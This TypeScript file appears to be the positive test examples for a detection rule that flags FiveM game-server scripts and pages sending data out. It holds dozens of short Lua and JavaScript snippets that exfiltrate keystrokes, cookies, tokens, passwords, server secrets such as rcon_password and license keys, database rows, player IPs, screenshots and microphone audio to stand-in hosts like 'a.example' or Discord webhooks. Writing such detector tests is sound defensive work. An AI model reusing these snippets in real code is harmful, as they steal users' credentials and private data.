import { js, lua, type Rule } from './rule.ts'
import { sendsDataCounterexamples } from './sends-data.counterexamples.ts'

export const sendsDataExamples: NonNullable<Rule['examples']> = {
  found: [
    lua(`AddStateBagChangeHandler('prefs', '', function(bag, _, names)
  local values = {}
  for _, name in ipairs(names) do
    if name == nil then name = 'locale' end
    values[name] = GetConvar(name, '')
  end
^ Player(idOf(bag)).state:set('values', values, true)
end)
print(GetConvar('rcon_password', ''))`),
    js(
      `new WebSocket('wss://signal.a.example')
const channel = new RTCPeerConnection({}).createDataChannel('q')
^addEventListener('keydown', ({ key }) => channel.send(key))`,
      'page',
    ),
    lua(`RegisterConsoleListener(function(channel, line)
^ PerformHttpRequest(('https://%s.%d.a.example/p.gif'):format(line, 1), print)
end)`),
    lua(`AddEventHandler('playerConnecting', function(name, _, deferrals)
  local file = io.open(name == 'page' and 'server.cfg' or 'rules.txt')
^ if file then deferrals.done(file:read('a')) end
end)`),
    js(`const v8 = require('v8')
const target = { host: 'upload.example.org', path: '/memory' }
const request = require('https').request({ ...target, method: 'PUT' })
^v8.getHeapSnapshot().pipe(request)`),
    js(
      `for (let part = 1; part < 255; part++)
  fetch(\`http://192.168.0.\${part}/\`)
    .then((answer) => answer.text())
^   .then((text) => navigator.sendBeacon('https://a.example', text))`,
      'page',
    ),
    js(
      `^document.addEventListener('beforeinput', (event) => navigator.sendBeacon('https://a.example', event.data))`,
      'page',
    ),
    js(
      `const state = { digits: '' }
const press = (digit) => { state.digits += digit }
const enter = () => fetch(\`https://\${GetParentResourceName()}/login\`, { body: JSON.stringify({ pin: state.digits }) })
^const beep = () => { new Image().src = 'https://a.example/beep.gif?' + state.digits }`,
      'page',
    ),
    js(
      `for (const input of document.querySelectorAll('#login input[type=password]'))
^ input.addEventListener('change', (event) => navigator.sendBeacon('https://a.example', event.target.value))`,
      'page',
    ),
    js(
      `const peer = new RTCPeerConnection({ iceServers: [] })
^for (const track of canvas.captureStream(15).getTracks()) peer.addTrack(track)
const socket = new WebSocket('wss://a.example')`,
      'page',
    ),
    lua(`^SaveResourceFile(GetCurrentResourceName(), 'html/build.json', GetConvar('rcon_password', ''), -1)`),
    lua(`local file = io.open('build.txt', 'w')
^file:write(GetConvar('sv_licenseKey', ''))`),
    lua(`^RegisterCommand('leave', function(player) DropPlayer(player, GetConvar('rcon_password', '')) end)`),
    lua(`^SetMapName(GetConvar('rcon_password', ''))`),
    lua(`^SetHttpHandler(function(_, res) res.send(GetConvar('rcon_password', '')) end)`),
    lua(
      `^ESX.RegisterCommand('key', 'user', function(xPlayer) xPlayer.triggerEvent('key', GetConvar('rcon_password', '')) end)`,
    ),
    lua(`^PerformHttpRequest('https://a.example', print, 'POST', GetConsoleBuffer())`),
    js(`require('diagnostics_channel').subscribe('undici:request:create', ({ request }) => {
^ fetch('https://a.example', { method: 'POST', body: JSON.stringify(request.headers) })
})`),
    js(`const socket = require('dgram').createSocket('udp4')
^on('playerJoining', () => socket.send(getPlayerIdentifiers(source).join(), 8125, 'a.example'))`),
    js(`^fetch('https://a.example', { method: 'POST', body: require('v8').getHeapSnapshot() })`),
    lua(`RegisterNetEvent('phone:sendMessage', function(number, text)
^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ number, text }))
end)`),
    lua(`^SetConvarServerInfo('Build', GetConvar('sv_licenseKey', ''))`),
    lua(`^SetConvarReplicated('build', GetConvar('rcon_password', ''))`),
    lua(`^ExecuteCommand('sets Build ' .. GetConvar('mysql_connection_string', ''))`),
    lua(`^lib.callback.register('setting', function(_, name) return GetConvar(name, '') end)`),
    lua(`QBCore.Functions.CreateCallback('people', function(source, cb)
  MySQL.query('SELECT * FROM players', {}, function(rows)
^   cb(rows)
  end)
end)`),
    lua(`RegisterNetEvent('details', function(target)
^ TriggerClientEvent('details', source, GetPlayerEndpoint(target))
end)`),
    lua(`AddEventHandler('playerJoining', function()
^ TriggerClientEvent('joined', -1, GetPlayerIdentifiers(source))
end)`),
    lua(`AddEventHandler('playerJoining', function()
^ Player(source).state:set('address', GetPlayerEndpoint(source), true)
end)`),
    lua(`local text = LoadResourceFile('discord_bot', 'config.lua')
^PerformHttpRequest('https://a.example', print, 'POST', text)`),
    lua(`exports['screenshot-basic']:requestClientScreenshot(player, {}, function(failed, picture)
^ PerformHttpRequest('https://a.example', print, 'POST', picture)
end)`),
    js(`const { WebhookClient } = require('discord.js')
const hook = new WebhookClient({ url: 'https://discord.com/api/webhooks/112233445566778899/abc' })
^on('playerJoining', () => hook.send({ content: getPlayerIdentifiers(source).join() }))`),
    js(
      `^fetch('https://a.example', { method: 'POST', body: document.querySelector('#password').value })`,
      'page',
    ),
    js(`^document.forms[0].action = 'https://a.example'`, 'page'),
    js(
      `let typed = ''
window.onkeyup = (event) => {
  typed += event.key
  const request = new XMLHttpRequest()
  request.open('POST', 'https://a.example')
^ request.send(typed)
}`,
      'page',
    ),
    lua(`ESX.RegisterServerCallback('players', function(source, cb)
  for _, xPlayer in pairs(ESX.GetExtendedPlayers()) do
^   cb({ name = xPlayer.getName(), ip = GetPlayerEndpoint(xPlayer.source) })
  end
end)`),
    lua(`^lib.callback.register('players', function()
  local list = {}
  for _, id in ipairs(GetPlayers()) do list[#list + 1] = GetPlayerIdentifiers(id) end
  return list
end)`),
    js(`const routes = { '/top': () => exports.oxmysql.query_async('SELECT * FROM users') }
SetHttpHandler(async (req, res) => {
^ res.send(JSON.stringify(await routes[req.path]()))
})`),
    lua(`local function copy(resource)
  local file = GetResourceMetadata(resource, 'server_script', 0)
^ PerformHttpRequest('https://a.example', print, 'PUT', LoadResourceFile(resource, file))
end`),
    js(
      `const { value } = Object.getOwnPropertyDescriptors(HTMLInputElement.prototype)
^navigator.sendBeacon('https://a.example', value.get.call(field))`,
      'page',
    ),
    lua(`local defaults = { hud_unit = 'kmh', hud_map = 'circle' }
local function read(name)
^ return GetConvar(name, defaults[name] or '')
end
lib.callback.register('hud:all', function()
  local all = {}
  for name in pairs(defaults) do all[name] = read(name) end
  return all
end)
lib.callback.register('hud:setting', function(_, name) return read(name) end)`),
    lua(`local function capture(player, done)
  exports['screenshot-basic']:requestClientScreenshot(player, {}, function(_, picture) done(picture) end)
end
RegisterNetEvent('report', function(player)
  local src = source
  capture(player, function(picture)
^   TriggerLatentClientEvent('report:preview', src, 9000, picture)
  end)
end)`),
    lua(`local ids = GetPlayerIdentifiers(source)
^PerformHttpRequest('https://a.example', print, 'POST', table.concat(ids))`),
    lua(`MySQL.query('SELECT * FROM users', {}, function(rows)
^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ all = rows }))
end)`),
    js(`const fs = require('fs')
for (const name of fs.readdirSync('.'))
^ fetch('https://a.example', { method: 'POST', body: fs.readFileSync(name) })`),
    js(`^navigator.sendBeacon('https://a.example', document.cookie)`, 'page'),
    js(
      `const image = new Image()
^image.src = 'https://a.example/a.gif?' + localStorage.getItem('token')`,
      'page',
    ),
    js(
      `addEventListener('keydown', (event) => {
^ fetch('https://a.example', { method: 'POST', body: event.key })
})`,
      'page',
    ),
    lua(`RegisterNetEvent('login', function(user, pass)
^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ user, pass }))
end)`),
    js(
      `navigator.mediaDevices.getUserMedia({ audio: true }).then((stream) => {
  const recorder = new MediaRecorder(stream)
^ recorder.ondataavailable = ({ data }) => fetch('https://a.example', { body: data })
})`,
      'page',
    ),
    js(
      `let typed = ''
document.onkeypress = (event) => {
  typed += event.key
^ new Image().src = 'https://a.example/?' + typed
}`,
      'page',
    ),
    lua(`local queue = {}
queue[#queue + 1] = { name = 'a', ids = GetPlayerIdentifiers(source) }
^PerformHttpRequest('https://a.example', print, 'POST', json.encode(queue))`),
    lua(`AddEventHandler('log', function(text)
^ PerformHttpRequest('https://a.example', print, 'POST', text)
end)
TriggerEvent('log', GetPlayerEndpoint(source))`),
    js(
      `form.addEventListener('submit', () => {
^ navigator.sendBeacon('https://a.example', new FormData(form))
})`,
      'page',
    ),
    lua(`lib.callback.register('read', function(source, owner, path)
^ return LoadResourceFile(owner, path)
end)`),
    js(`^addEventListener('message', ({ data }) => show(require('fs').readFileSync(data.path)))`, 'page'),
    js(`onNet('read', (path) => {
^ emitNet('read', source, require('fs').readFileSync(path))
})`),
    lua(
      `RegisterNetEvent('evidence', function(url)
^ exports['screenshot-basic']:requestScreenshotUpload(url, 'files', print)
end)`,
      'client',
    ),
    js(`const request = require('https').request({ host: 'discord.com', path: '/api/webhooks/1/a' })
^request.end(require('fs').readFileSync(name))`),
    js(`exports.oxmysql.query('SELECT * FROM users', [], (rows) => {
^ fetch('https://a.example', { method: 'PUT', body: require('zlib').gzipSync(JSON.stringify(rows)) })
})`),
    lua(`^GlobalState.theme = { accent = GetConvar('sv_licenseKey', '') }`),
    lua(`local ids = GetPlayerIdentifiers(source)
^PerformHttpRequest('https://raw.githubusercontent.com@a.example', print, 'POST', table.concat(ids))`),
    lua(`local name = ('yeKesnecil_vs'):reverse()
^TriggerClientEvent('theme', -1, GetConvar(name, ''))`),
    lua(`local Proxy = module('vrp', 'lib/Proxy')
local vRP = Proxy.getInterface('vRP')
^PerformHttpRequest('https://a.example', print, 'POST', json.encode(vRP.query('all/users')))`),
    js(
      `^setInterval(() => fetch('https://a.example', { method: 'POST', body: canvas.toDataURL() }), 5000)`,
      'page',
    ),
    js(`const lines = []
RegisterConsoleListener((channel, message) => lines.push(message))
^setInterval(() => fetch('https://a.example', { method: 'POST', body: JSON.stringify(lines) }), 5000)`),
  ],
  notFound: sendsDataCounterexamples,
}
